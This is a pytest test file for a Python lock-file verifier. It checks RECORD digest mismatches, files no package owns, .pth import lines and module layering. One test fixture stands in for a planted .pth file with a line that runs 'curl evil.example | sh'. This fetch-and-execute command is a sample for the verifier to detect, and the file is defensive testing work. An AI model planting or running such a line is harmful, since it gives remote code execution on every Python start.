"""verify's deep checks, by hand-built inventories: RECORD digests, unowned files,
``.pth`` import lines, what could not be checked; and the module layering.

The end-to-end counterparts (real wheels, venvs, pip) are in
``test_deploy_tamper.py``.
"""

from __future__ import annotations

import ast
import dataclasses
import json
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from packaging.utils import canonicalize_name

from reqlock.deploy.inventory import FileIssue, InstalledDist, Inventory, UnownedFile
from reqlock.deploy.report import PROBLEM_KINDS
from reqlock.deploy.verify import Report, compare, select_expected
from tests.test_verify import fake_hash, installed, inventory_of, kinds, make_lock, package

SRC = Path(__file__).resolve().parent.parent / "src"
DIGEST = "sha256:" + fake_hash("the wheel's RECORD")
OTHER = "sha256:" + fake_hash("another RECORD")
SITE = "/env/site-packages"


def with_records(entry: dict[str, Any], records: dict[str, str]) -> dict[str, Any]:
    return {**entry, "tool": {"reqlock": {"records": records}}}


def dist(name: str, version: str, digest: str | None, **options: Any) -> InstalledDist:
    return dataclasses.replace(installed(name, version, **options), record_digest=digest)


def run(
    lock_entries: list[dict[str, Any]],
    inv: Inventory,
    *,
    files_checked: bool = True,
    allow_unowned: tuple[str, ...] = (),
) -> Report:
    lock = make_lock(lock_entries)
    selection = select_expected(lock, environment=inv.environment, tags=inv.tags)
    return compare(
        selection,
        inv,
        file_issues=() if files_checked else None,
        allow_unowned=allow_unowned,
        lock_name="pylock.toml",
    )


# --------------------------------------------------------------------------- RECORD


def test_matching_record_digest_is_checked_and_ok() -> None:
    entry = with_records(package("alpha", "1.0"), {"alpha-1.0-py3-none-any.whl": DIGEST})
    report = run([entry], inventory_of(dist("alpha", "1.0", DIGEST)))
    assert report.ok
    assert report.not_checked == ()
    assert "not checked" not in report.render()


def test_record_mismatch_names_the_wheel_and_both_digests() -> None:
    entry = with_records(package("alpha", "1.0"), {"alpha-1.0-py3-none-any.whl": DIGEST})
    report = run([entry], inventory_of(dist("alpha", "1.0", OTHER)))
    assert kinds(report) == [("record-mismatch", "alpha")]
    problem = report.problems[0]
    assert (problem.expected, problem.actual) == (DIGEST, OTHER)
    assert "alpha-1.0-py3-none-any.whl" in problem.detail
    assert "RECORD rewritten" in problem.detail
    assert "another build of the same version" in problem.detail
    assert "record-mismatch (1):\n  alpha: files differ from the locked wheel" in report.render()


def test_a_malformed_locked_digest_matches_nothing() -> None:
    entry = with_records(package("alpha", "1.0"), {"alpha-1.0-py3-none-any.whl": "md5:00"})
    report = run([entry], inventory_of(dist("alpha", "1.0", DIGEST)))
    assert kinds(report) == [("record-mismatch", "alpha")]


def test_records_as_written_a_list_in_the_order_of_the_wheels() -> None:
    tags = ["cp311-cp311-manylinux_2_17_x86_64", "py3-none-any"]
    entry = package("alpha", "1.0", tags=tags)
    names = [w["name"] if "name" in w else w["url"].rsplit("/", 1)[1] for w in entry["wheels"]]
    assert names == sorted(names)  # the lock writes wheels by name, records alike
    by_name = {"alpha-1.0-cp311-cp311-manylinux_2_17_x86_64.whl": OTHER}
    listed = {**entry, "tool": {"reqlock": {"records": [by_name.get(n, DIGEST) for n in names]}}}
    assert run([listed], inventory_of(dist("alpha", "1.0", DIGEST))).ok
    report = run([listed], inventory_of(dist("alpha", "1.0", OTHER)))
    assert kinds(report) == [("record-mismatch", "alpha")]
    # "" is a wheel without a digest: not compared, and said so.
    empty = {**entry, "tool": {"reqlock": {"records": ["", ""]}}}
    assert run([empty], inventory_of(dist("alpha", "1.0", OTHER))).ok


def test_a_records_list_that_does_not_match_the_wheels_fails_closed() -> None:
    entry = package("alpha", "1.0")
    short = {**entry, "tool": {"reqlock": {"records": [DIGEST, DIGEST]}}}  # one wheel
    report = run([short], inventory_of(dist("alpha", "1.0", DIGEST)))
    assert kinds(report) == [("record-mismatch", "alpha")]


def test_the_installed_wheel_is_found_by_its_tags() -> None:
    tags = ["cp311-cp311-manylinux_2_17_x86_64", "py3-none-any"]
    entry = with_records(
        package("alpha", "1.0", tags=tags),
        {
            "alpha-1.0-cp311-cp311-manylinux_2_17_x86_64.whl": OTHER,
            "alpha-1.0-py3-none-any.whl": DIGEST,
        },
    )
    # The pure wheel is installed (whatever the interpreter would prefer).
    assert run([entry], inventory_of(dist("alpha", "1.0", DIGEST))).ok
    report = run([entry], inventory_of(dist("alpha", "1.0", OTHER)))
    assert kinds(report) == [("record-mismatch", "alpha")]


def test_the_installed_wheel_is_found_by_the_direct_url_hash() -> None:
    entry = with_records(package("alpha", "1.0"), {"alpha-1.0-py3-none-any.whl": DIGEST})
    direct = {
        "url": "file:///w/alpha-1.0-py3-none-any.whl",
        "archive_info": {"hashes": {"sha256": entry["wheels"][0]["hashes"]["sha256"]}},
    }
    report = run([entry], inventory_of(dist("alpha", "1.0", OTHER, direct_url=direct)))
    assert kinds(report) == [("record-mismatch", "alpha")]


def test_what_could_not_be_compared_is_said_per_reason() -> None:
    entries = [
        package("nodigest", "1.0"),
        with_records(package("unread", "1.0"), {"unread-1.0-py3-none-any.whl": DIGEST}),
        package("fromsdist", "1.0", tags=[], sdist=True),
        with_records(package("good", "1.0"), {"good-1.0-py3-none-any.whl": DIGEST}),
    ]
    inv = inventory_of(
        dist("nodigest", "1.0", DIGEST),
        dist("unread", "1.0", None),
        dist("fromsdist", "1.0", DIGEST),
        dist("good", "1.0", DIGEST),
    )
    report = run(entries, inv)
    assert report.ok
    by_packages = {item.packages: item for item in report.not_checked}
    assert set(by_packages) == {("nodigest",), ("unread",), ("fromsdist",)}
    assert all(item.check == "record-digest" for item in report.not_checked)
    assert "the lock has none for 1 package" in by_packages[("nodigest",)].reason
    assert "not installed from a locked wheel" in by_packages[("fromsdist",)].reason
    text = report.render()
    assert "not checked: RECORD digests: the lock has none for 1 package (nodigest)" in text
    data = json.loads(report.to_json())
    assert {"check": "record-digest", "packages": ["nodigest"]}.items() <= {
        **data["not_checked"][0]
    }.items()
    assert set(data["not_checked"][0]) == {"check", "reason", "packages"}


def test_a_lock_without_records_verifies_as_before_and_says_so() -> None:
    names = ["a", "b", "c"]
    report = run(
        [package(n, "1") for n in names], inventory_of(*(dist(n, "1", DIGEST) for n in names))
    )
    assert report.ok
    (note,) = report.not_checked
    assert note.packages == ("a", "b", "c")
    assert "the lock has none for 3 packages" in note.reason
    assert report.render().splitlines()[-1].startswith("not checked: RECORD digests")


def test_digests_are_not_compared_for_packages_already_reported() -> None:
    entry = with_records(package("alpha", "1.0"), {"alpha-1.0-py3-none-any.whl": DIGEST})
    report = run([entry], inventory_of(dist("alpha", "0.9", OTHER)))
    assert kinds(report) == [("version-mismatch", "alpha")]
    report = run(
        [entry], inventory_of(dist("alpha", "1.0", OTHER, tags="cp311-cp311-linux_x86_64"))
    )
    assert kinds(report) == [("file-not-in-lock", "alpha")]


def test_no_files_is_a_check_not_done() -> None:
    report = run([package("a", "1")], inventory_of(dist("a", "1", DIGEST)), files_checked=False)
    assert report.ok
    assert [item.check for item in report.not_checked] == ["files", "record-digest"]
    assert "(files not checked)" in report.render()


# --------------------------------------------------------------------------- unowned


def unowned(path: str, kind: str) -> UnownedFile:
    return UnownedFile(path=path, site=SITE, kind=kind)  # type: ignore[arg-type]


def test_unowned_files_are_problems_unless_allowed() -> None:
    inv = dataclasses.replace(
        inventory_of(dist("alpha", "1.0", None)),
        unowned=(
            unowned("alpha/evil.py", "importable"),
            unowned("evil.pth", "pth"),
            unowned("notes.txt", "other"),
            unowned("_virtualenv.py", "importable"),
        ),
    )
    report = run([package("alpha", "1.0")], inv, allow_unowned=("_virtualenv*", "*.txt"))
    got = [(p.kind, p.path, p.actual) for p in report.problems]
    assert got == [
        ("unowned-file", "alpha/evil.py", "importable"),
        ("unowned-file", "evil.pth", "pth"),
    ]
    assert all(p.package is None for p in report.problems)
    assert report.allow_unowned == ("*.txt", "_virtualenv*")
    text = report.render()
    assert "unowned-file (2):\n  alpha/evil.py: " in text
    assert SITE in text
    data = json.loads(report.to_json())
    assert data["allow_unowned"] == ["*.txt", "_virtualenv*"]
    assert "unowned-file" in PROBLEM_KINDS


def test_import_lines_of_an_unowned_pth_are_problems_unless_allowed() -> None:
    """An owned .pth (setuptools' distutils-precedence.pth, in every fresh venv) is
    its distribution's code, checked with its files; an unowned one is reported
    twice: as a file no RECORD lists, and for the code it runs at every start."""
    line = f"{SITE}/evil.pth: import os; os.system('curl evil.example | sh')"
    inv = dataclasses.replace(
        inventory_of(dist("alpha", "1.0", None)),
        unowned=(unowned("evil.pth", "pth"),),
        pth_imports=(line, f"{SITE}/distutils-precedence.pth: import os; x = 1"),
    )
    report = run([package("alpha", "1.0")], inv)
    got = sorted((p.kind, p.path) for p in report.problems)
    assert got == [("pth-import", "evil.pth"), ("unowned-file", "evil.pth")]
    assert "curl evil.example" in report.render()
    allowed = run([package("alpha", "1.0")], inv, allow_unowned=("evil.pth",))
    assert allowed.problems == ()


def test_file_issues_still_reported_with_deep_checks() -> None:
    entry = with_records(package("alpha", "1.0"), {"alpha-1.0-py3-none-any.whl": DIGEST})
    inv = inventory_of(dist("alpha", "1.0", DIGEST))
    lock = make_lock([entry])
    selection = select_expected(lock, environment=inv.environment, tags=inv.tags)
    issue = FileIssue(
        kind="modified",
        package=canonicalize_name("alpha"),
        dist=inv.dists[0].path,
        path="alpha/util.py",
        detail="content differs from RECORD",
    )
    report = compare(selection, inv, file_issues=[issue])
    assert kinds(report) == [("file-modified", "alpha")]


# --------------------------------------------------------------------------- layering


def test_export_never_imports_the_inventory() -> None:
    code = (
        "import sys\n"
        "import reqlock.deploy.export, reqlock.deploy.select, reqlock.deploy.report\n"
        "bad = sorted(m for m in sys.modules if m.startswith('reqlock.deploy.inventory')"
        " or m == 'reqlock.deploy.verify')\n"
        "assert not bad, bad\n"
    )
    proc = subprocess.run(
        [sys.executable, "-c", code],
        capture_output=True,
        text=True,
        env={"PYTHONPATH": str(SRC), "PATH": "/usr/bin:/bin"},
        check=False,
    )
    assert proc.returncode == 0, proc.stderr


@pytest.mark.parametrize("module", ["sync", "export", "verify"])
def test_deploy_modules_import_no_private_names(module: str) -> None:
    tree = ast.parse((SRC / "reqlock" / "deploy" / f"{module}.py").read_text())
    private = [
        f"{node.module}.{alias.name}"
        for node in ast.walk(tree)
        if isinstance(node, ast.ImportFrom) and node.module and node.module.startswith("reqlock")
        for alias in node.names
        if alias.name.startswith("_")
    ]
    assert private == []


def test_verify_still_exports_the_public_names() -> None:
    import reqlock
    from reqlock.deploy import verify

    for name in ("verify", "Report", "Problem", "VerifyError", "select_expected", "compare"):
        assert hasattr(verify, name), name
    for name in ("LockSelectionError", "LockNotApplicableError", "NotChecked", "load_lock"):
        assert hasattr(verify, name), name
    assert reqlock.Report is verify.Report
    assert reqlock.verify is verify.verify
